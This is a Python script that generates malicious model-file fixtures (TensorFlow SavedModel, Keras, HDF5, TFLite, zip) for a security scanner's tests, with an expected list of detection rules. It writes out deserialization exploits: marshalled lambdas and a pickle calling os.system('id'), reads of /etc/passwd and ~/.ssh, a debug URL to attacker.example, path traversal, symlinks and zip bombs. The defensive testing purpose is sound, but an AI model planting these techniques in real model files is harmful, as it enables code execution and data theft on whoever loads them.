"""Write hostile artifacts of every format, and what is to be found in each: make_hostile.py DIR.

Nothing here harms: files that are written are /var/tmp/hostile, addresses are reserved for examples.
`expected.json` lists them: name, path, format, what it does, the rule that finds it. Under "healthy"
it has the artifacts in tests/data that do nothing of the kind.
"""

import base64
import json
import marshal
import shutil
import stat
import sys
import zipfile
from collections.abc import Callable
from pathlib import Path

HERE = Path(__file__).resolve().parent
sys.path[:0] = [str(HERE.parents[2])]

from google.protobuf import text_format  # noqa: E402 - the path first
from tests.unit.savedmodel.files import FILES, keras_file  # noqa: E402
from tests.unit.savedmodel.flatbuffers import code, model, tensor  # noqa: E402
from tests.unit.savedmodel.graphs import ARTIFACTS, complete, func  # noqa: E402
from tests.unit.savedmodel.hostile_graphs import (  # noqa: E402
    PASSWD,
    Hostile,
    called_by,
    restoring,
    strings,
    table,
)

from savedmodel_matrix.savedmodel.formats import artifacts  # noqa: E402
from savedmodel_matrix.savedmodel.object_schema import view  # noqa: E402
from savedmodel_matrix.savedmodel.schema import message  # noqa: E402

WRITTEN = "/var/tmp/hostile"
NOT_HEALTHY = {FILES / "links.h5", *FILES.glob("lambda-*"), HERE.parent / "safety" / "hostile"}
ELSEWHERE = "attacker.example:1"
MADE: dict[
    str, tuple[str, str, Callable[[Path], object]]
] = {}  # by name: the rule, what it does, and what writes it


def hostile(name, rule, what):
    """Register a function that writes an artifact of this name into a directory."""

    def register(write):
        MADE[name] = (rule, what, write)
        return write

    return register


def write(directory, *graphs, text=False):
    saved = message("SavedModel")()
    for graph in graphs:
        if not graph.proto.meta_info_def.tags:
            graph.proto.meta_info_def.tags.append("serve")
        if not graph.proto.signature_def:
            graph.signature("filename:0")
        complete(graph.proto)
        saved.meta_graphs.append(graph.proto)
    directory.mkdir()
    if text:
        (directory / "saved_model.pbtxt").write_text(text_format.MessageToString(saved))
    else:
        (directory / "saved_model.pb").write_bytes(saved.SerializeToString())


def graphs(name, rule, what, build, **options):
    """Register a SavedModel that is one graph, or several."""

    def of_graphs(directory):
        made = build()
        write(directory / name, *(made if isinstance(made, list) else [made]), **options)

    hostile(name, rule, what)(of_graphs)


INSIDE = [
    ("PartitionedCall", (), "f"),
    ("StatefulPartitionedCall", (), "f"),
    ("If", ("zero",), "then_branch"),
    ("StatelessIf", ("zero",), "else_branch"),
    ("While", (), "cond"),
    ("StatelessWhile", (), "body"),
    ("Case", ("zero",), "branches"),
    ("BatchFunction", (), "f"),
    ("MapDataset", (), "f"),
    ("FilterDataset", (), "predicate"),
    ("OneShotIterator", (), "dataset_factory"),
    ("RemoteCall", ("zero",), "f"),
    ("XlaLaunch", (), "function"),
]
for OP, BEFORE, ATTRIBUTE in INSIDE:
    graphs(
        f"inside-{OP}",
        "file-write",
        f"WriteFile in a function that {OP} calls",
        lambda op=OP, before=BEFORE, attribute=ATTRIBUTE: called_by(op, before, attribute),
    )
graphs(
    "inside-a-function-inside-MapDataset",
    "file-write",
    "WriteFile in the function of a MapDataset, in a function",
    lambda: called_by("MapDataset", (), "f", inside=True),
)


def one(op, *inputs, rule="", at="signature", attributes=None, listed=(), text=WRITTEN):
    """Register a graph with one op that acts, in a signature or at load."""

    def build():
        graph = Hostile()
        graph.const("path", text)
        node = graph.node("act", op, *inputs, **(attributes or {}))
        for key, value in listed:
            node.attr[key].list.s.append(value)
        return graph.init("act") if at == "load" else graph.signature("act:0")

    where = "when it is loaded" if at == "load" else "when a signature runs"
    graphs(f"{op}-{at}", rule, f"{op} {where}", build)


one("WriteFile", "path", "path", rule="file-write", at="load")
one("WriteFile", "path", "path", rule="file-write")
one("ReadFile", "path", rule="file-read", text=PASSWD)
one("MatchingFiles", "path", rule="file-read", text="/home/*/.ssh/*")
one("TextLineDataset", "path", "path", "path", rule="file-read", text=PASSWD)
one("CacheDatasetV2", "path", "path", "path", rule="file-write")
one("SqlDataset", "path", "path", "path", rule="network")
one("DataServiceDatasetV4", *["path"] * 8, rule="network", text=ELSEWHERE)
one("SaveV2", "path", "path", "path", rule="save-elsewhere", at="load")
one("PrintV2", "path", rule="file-write", attributes={"output_stream": f"file://{WRITTEN}"})
one(
    "DebugIdentityV3",
    "path",
    rule="file-write",
    listed=[("debug_urls", b"grpc://" + ELSEWHERE.encode())],
)
one("PyFunc", "path", rule="python-function", attributes={"token": "pyfunc_0"})
one("EagerPyFunc", "path", rule="python-function", at="load", attributes={"token": "pyfunc_0"})
one(
    "XlaCallModule",
    "path",
    rule="python-function",
    attributes={"module": "xla_ffi_python_cpu_callback"},
)
one("DatasetFromGraph", "path", rule="hidden-code", text="a graph")
one("Abort", rule="process-exit", at="load")
graphs(
    "table-from-passwd",
    "table-elsewhere",
    f"a table filled from {PASSWD} at load",
    lambda: table(value=strings(PASSWD)),
)
graphs(
    "restore-constant",
    "restore-elsewhere",
    f"RestoreV2 with the path {PASSWD}",
    lambda: restoring("constant"),
)
graphs(
    "restore-constant-in-a-function",
    "restore-elsewhere",
    "the same in a function",
    lambda: restoring("constant", wrapped=True),
)


@hostile("restore-climbing", "restore-elsewhere", "RestoreV2 with a path joined with ../../..")
def _climbing(directory):
    graph = restoring("made")
    graph.const("climbing", "/../../../etc/passwd")
    graph.node("made", "StringJoin", "filename", "climbing")
    write(directory / "restore-climbing", graph)


def _evil():
    graph = Hostile()
    graph.evil()
    return graph


def _called(graph=None):
    graph = graph or _evil()
    graph.node("call", "PartitionedCall", "filename", f=func("evil"))
    return graph


def _restore():
    graph = _called()
    graph.node("init", "NoOp", "^call")
    graph.proto.saver_def.restore_op_name = "init"
    return graph


def _saving():
    graph = _called()
    graph.proto.saver_def.save_tensor_name = "call:0"
    return graph


def _control():
    graph = Hostile()
    graph.const("path", WRITTEN)
    graph.node("write", "WriteFile", "path", "path")
    graph.node("out", "Identity", "filename", "^write")
    return graph.signature("out:0")


def _hidden_name():
    graph = _evil()
    graph.function("outer", ["x"], ["x"])
    call = graph.node("call", "PartitionedCall", "filename", f=func("outer"))
    # The field attr of NameAttrList: under "g" a func named evil, which a placeholder may run.
    call.attr["f"].func.MergeFromString(b"\x12\x0d\x0a\x01g\x12\x08\x52\x06\x0a\x04evil")
    return graph.signature("call:0")


def _second():
    first, second = Hostile(), called_by("PartitionedCall")
    second.proto.meta_info_def.tags.append("train")
    return [first, second]


def _swelling():
    graph = Hostile()
    value = graph.node("bomb", "Const", value=strings("x")).attr["value"].tensor
    value.dtype = 1
    for _ in range(2):
        value.tensor_shape.dim.add(size=1 << 20)
    return graph.signature("bomb:0")


def _asset(name):
    graph = Hostile()
    graph.const("path", "")
    graph.proto.asset_file_def.add(filename=name).tensor_info.name = "path:0"
    return graph


graphs("restore-writes", "file-write", "WriteFile in the restore op", _restore)
graphs("save-writes", "file-write", "WriteFile when it is saved again", _saving)
graphs("control-input", "file-write", "WriteFile by a control input of a signature", _control)
graphs(
    "hidden-name", "file-write", "a function named in the attributes of an attribute", _hidden_name
)
graphs(
    "python-only",
    "file-write",
    "WriteFile in a function that only Python can call",
    lambda: _evil().objects("evil"),
)
graphs(
    "python-initialize",
    "file-write",
    "WriteFile in _initialize, which Python runs at load",
    lambda: _evil().objects("evil", name="_initialize"),
)
graphs("second-metagraph", "file-write", "WriteFile in a second MetaGraph, tagged train", _second)
graphs(
    "in-text",
    "file-write",
    "WriteFile in a saved_model.pbtxt",
    lambda: called_by("If", ("zero",), "then_branch"),
    text=True,
)
graphs("shape-bomb", "tensor-bomb", "a constant of 4 TB", _swelling)
graphs("asset-absolute", "asset-outside", f"the asset {PASSWD}", lambda: _asset(PASSWD))
graphs(
    "asset-climbing",
    "asset-outside",
    "the asset ../../../etc/passwd",
    lambda: _asset("../../../etc/passwd"),
)


@hostile("by-tensorflow", "file-write", "If, while_loop and Dataset.map, saved by TensorFlow 2.21")
def _by_tensorflow(directory):
    shutil.copytree(ARTIFACTS.parent / "safety" / "hostile", directory / "by-tensorflow")


@hostile("keras-metadata-lambda", "keras-lambda", "a Lambda layer in keras_metadata.pb of Keras 2")
def _metadata(directory):
    shutil.copytree(ARTIFACTS / "dense-2.15", directory / "keras-metadata-lambda")
    layer = {"class_name": "Lambda", "config": {"name": "evil", "function": [_marshalled(), None]}}
    saved = view("KerasMetadata")()
    saved.nodes.add(identifier="_tf_keras_layer", node_path="root.x", metadata=json.dumps(layer))
    (directory / "keras-metadata-lambda" / "keras_metadata.pb").write_bytes(
        saved.SerializeToString()
    )


def _marshalled(source="__import__('os').system('id')"):
    return base64.b64encode(
        marshal.dumps(compile(f"lambda x: {source}", "x", "eval").co_consts[0])
    ).decode()


def _layer(class_name, **config):
    return {
        "module": "keras.layers",
        "class_name": class_name,
        "config": {"name": "evil", **config},
    }


def _nested(layer):
    inner = {"class_name": "Functional", "config": {"name": "inner", "layers": [layer]}}
    return lambda config: config["config"]["layers"].append({**inner, "module": "keras"})


def configs(name, rule, what, layer):
    """Register a .keras file with a layer more, in a model in the model."""
    hostile(name, rule, what)(
        lambda directory: keras_file(directory / f"{name}.keras", config=_nested(layer()))
    )


def _lambda():
    return {"class_name": "__lambda__", "config": {"code": _marshalled()}}


def _reference(module, name):
    return {"module": module, "class_name": "function", "config": name, "registered_name": name}


configs(
    "keras-lambda",
    "lambda",
    "a Lambda that runs a command, in a nested model",
    lambda: _layer("Lambda", function=_lambda()),
)
configs(
    "keras-os-system",
    "module-reference",
    "a reference to os.system",
    lambda: _layer("Dense", activation=_reference("os", "system")),
)
configs(
    "keras-get-file",
    "module-reference",
    "a reference to keras.utils.get_file",
    lambda: _layer("Dense", activation=_reference("keras.utils", "get_file")),
)
configs(
    "keras-unsafe-mode",
    "module-reference",
    "switches the safe mode off",
    lambda: _layer("Dense", activation=_reference("keras.config", "enable_unsafe_deserialization")),
)
configs(
    "keras-vocabulary",
    "outside-file",
    f"a vocabulary read from {PASSWD}",
    lambda: _layer("StringLookup", vocabulary=PASSWD),
)
configs(
    "keras-torch",
    "pickle",
    "a pickled PyTorch module",
    lambda: _layer("TorchModuleWrapper", module="gASVAAA="),
)
configs(
    "keras-savedmodel",
    "outside-file",
    "a TFSMLayer that loads a SavedModel",
    lambda: _layer("TFSMLayer", filepath="/var/tmp/evil"),
)


def entries(name, rule, what, entry, data, compress=zipfile.ZIP_STORED):
    """Register a .keras file with an entry more."""

    def of_entry(directory):
        path = keras_file(directory / f"{name}.keras")
        with zipfile.ZipFile(path, "a", compress) as archive:
            archive.writestr(entry, data)

    hostile(name, rule, what)(of_entry)


LINK = zipfile.ZipInfo("assets/link")
LINK.external_attr = (stat.S_IFLNK | 0o777) << 16
entries("zip-climbing", "zip-path", "an entry ../../evil", "../../evil", b"x")
entries("zip-absolute", "zip-path", "an entry /etc/evil", "/etc/evil", b"x")
entries("zip-link", "zip-path", "an entry that is a symbolic link", LINK, PASSWD)
entries(
    "zip-bomb",
    "zip-bomb",
    "an entry that unpacks to 128 MB",
    "assets/x",
    bytes(1 << 27),
    zipfile.ZIP_DEFLATED,
)
entries(
    "zip-pickle",
    "pickle",
    "an entry that is a pickle of os.system",
    "assets/x",
    b"\x80\x04cposix\nsystem\n(S'id'\ntR.",
)


@hostile("zip-twice", "zip-entry-twice", "two entries config.json")
def _twice(directory):
    path = keras_file(directory / "zip-twice.keras")
    data = path.read_bytes()
    with zipfile.ZipFile(path, "a") as archive:
        archive.writestr("Qonfig.json", json.dumps(_layer("Lambda", function=_lambda())))
    data = path.read_bytes()
    path.write_bytes(data.replace(b"Qonfig.json", b"config.json"))


@hostile("keras-weights-link", "hdf5-link", "weights in a .keras file with links out of it")
def _weights_link(directory):
    keras_file(directory / "keras-weights-link.keras", model=(FILES / "links.h5").read_bytes())


@hostile("h5-lambda", "lambda", "a marshalled lambda in a wrapper in a nested model, Keras 2")
def _h5_lambda(directory):
    shutil.copy(FILES / "lambda-2.15.h5", directory / "h5-lambda.h5")


@hostile("h5-lambda-3", "lambda", "the same by Keras 3")
def _h5_lambda_3(directory):
    shutil.copy(FILES / "lambda-2.21.h5", directory / "h5-lambda-3.h5")


@hostile("h5-links", "hdf5-outside", "links and bytes out of the file, and a dataset of 4 TB")
def _h5_links(directory):
    shutil.copy(FILES / "links.h5", directory / "h5-links.h5")


@hostile("tflite-flex", "harmful-op", "TensorFlow's WriteFile by the Flex delegate")
def _flex(directory):
    custom = model(
        codes=[code(32, custom="FlexWriteFile")],
        tensors=[tensor(name="a")],
        operators=[{"f0": ("I", 0), "f1": [0, 0], "f2": [0]}],
    )
    (directory / "tflite-flex.tflite").write_bytes(custom)


@hostile("tflite-outside", "outside-file", "a model whose tensors are in ../../evil")
def _outside(directory):
    (directory / "tflite-outside.tflite").write_bytes(
        model(tensors=[tensor()], f8=[{"f0": "../../evil"}])
    )


@hostile("tflite-shape-bomb", "tensor-bomb", "a tensor of 4 TB")
def _tflite_bomb(directory):
    (directory / "tflite-shape-bomb.tflite").write_bytes(
        model(tensors=[tensor((1 << 20, 1 << 20))])
    )


def make(directory):
    """Write all of them into a directory that does not exist; return what `expected.json` has."""
    directory.mkdir(parents=True)
    listed = []
    for name, (rule, what, build) in MADE.items():
        build(directory)
        (path,) = (path for path in directory.iterdir() if path.stem == name)
        kind = "SavedModel" if path.is_dir() else path.suffix
        listed.append({"name": name, "path": path.name, "format": kind, "what": what, "rule": rule})
    healthy = [path for path in artifacts(HERE.parent) if path not in NOT_HEALTHY]
    found = {"hostile": listed, "healthy": [str(path) for path in healthy]}
    (directory / "expected.json").write_text(json.dumps(found, indent=1) + "\n")
    return found


if __name__ == "__main__":
    if len(sys.argv) != 2 or Path(sys.argv[1]).exists():
        sys.exit("make_hostile.py DIR: a directory that does not exist")
    print(f"{len(make(Path(sys.argv[1]))['hostile'])} artifacts in {sys.argv[1]}")
